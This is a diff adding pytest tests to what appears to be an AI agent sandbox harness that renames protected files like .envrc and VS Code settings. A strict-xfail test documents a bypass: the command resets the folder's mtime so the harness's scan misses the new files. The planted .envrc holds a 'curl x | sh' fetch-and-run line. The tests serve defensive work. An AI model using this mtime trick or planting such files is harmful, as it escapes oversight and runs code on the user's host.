@@ -211,3 +211,44 @@ def test_a_repository_made_read_only_is_still_turned_off() -> None:
     finally:
         subprocess.run(["chmod", "-R", "u+w", str(base)], check=False)
         shutil.rmtree(base, ignore_errors=True)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason=(
+        "the protected paths a command makes are found by the scan after it, which reuses "
+        "a folder's listing while its mtime is unchanged: `.envrc` and .vscode/settings.json "
+        "made with the root's mtime set back are not renamed; when this is the task's last "
+        "command they stay for direnv and VS Code on the host"
+    ),
+)
+async def test_protected_files_made_with_an_mtime_set_back_are_renamed(
+    tmp_path: Path, home: Path
+) -> None:
+    root = tmp_path / "project"
+    root.mkdir()
+    (root / "main.py").write_text("print(1)\n")
+    os.utime(root, (1_600_000_000, 1_600_000_000))  # a checkout older than the task
+    command = (
+        'm=$(stat -c %.9Y .) && echo "curl x | sh" > .envrc && mkdir .vscode && '
+        "echo '{}' > .vscode/settings.json && touch -m -d \"@$m\" ."
+    )
+    said = await _full_auto(root, tmp_path / "cache", command)
+    assert "exit code 0" in said, said
+    assert not (root / ".envrc").exists(), said
+    assert not (root / ".vscode" / "settings.json").exists(), said
+
+
+async def test_protected_files_made_plainly_are_renamed(tmp_path: Path, home: Path) -> None:
+    """The control: without the mtime trick both are renamed when the command ends."""
+    root = tmp_path / "project"
+    root.mkdir()
+    (root / "main.py").write_text("print(1)\n")
+    os.utime(root, (1_600_000_000, 1_600_000_000))
+    said = await _full_auto(
+        root,
+        tmp_path / "cache",
+        "echo 'curl x | sh' > .envrc && mkdir .vscode && echo '{}' > .vscode/settings.json",
+    )
+    assert not (root / ".envrc").exists(), said
+    assert not (root / ".vscode" / "settings.json").exists(), said
